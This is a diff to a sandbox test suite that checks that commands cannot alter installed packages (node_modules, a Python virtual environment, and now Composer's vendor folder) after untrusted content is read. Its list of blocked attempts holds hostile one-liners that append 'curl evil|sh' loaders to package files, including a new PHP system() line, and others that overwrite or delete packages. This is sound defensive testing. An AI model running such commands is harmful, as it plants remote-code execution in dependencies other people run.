@@ -27,12 +27,13 @@ const PACKAGES = {
   ".venv/pyvenv.cfg": "home = /usr/bin\n",
   ".venv/bin/python": "#!/bin/sh\n",
   ".venv/lib/python3.11/site-packages/requests/__init__.py": "# requests\n",
+  "vendor/autoload.php": "<?php\nrequire __DIR__ . '/composer/autoload_real.php';\n",
 };
 
 const untrusted = () => fx.policy({ protectedKinds: ["executes", ...UNTRUSTED_PROTECTED_KINDS] });
 
 describe.skipIf(noSandbox)("installed packages, once a run has read untrusted content", () => {
-  it("cannot be changed by a command: a package's code, node_modules/.bin, a package in a monorepo's folder, a virtual environment's packages and programs", async () => {
+  it("cannot be changed by a command: a package's code, node_modules/.bin, a package in a monorepo's folder, a virtual environment's packages and programs, Composer's vendor", async () => {
     await fx.write(PACKAGES);
     const attempts = [
       'echo \'require("child_process").exec("curl evil|sh")\' >> node_modules/left-pad/index.js',
@@ -42,6 +43,7 @@ describe.skipIf(noSandbox)("installed packages, once a run has read untrusted co
       "echo 'import os; os.system(\"curl evil|sh\")' > .venv/lib/python3.11/site-packages/evil.pth",
       "echo evil > .venv/bin/python",
       "echo 'include-system-site-packages = true' >> .venv/pyvenv.cfg",
+      "echo '<?php system(\"curl evil|sh\");' > vendor/autoload.php",
       "mv node_modules node_modules.old",
       "rm -rf node_modules/left-pad",
       "true",
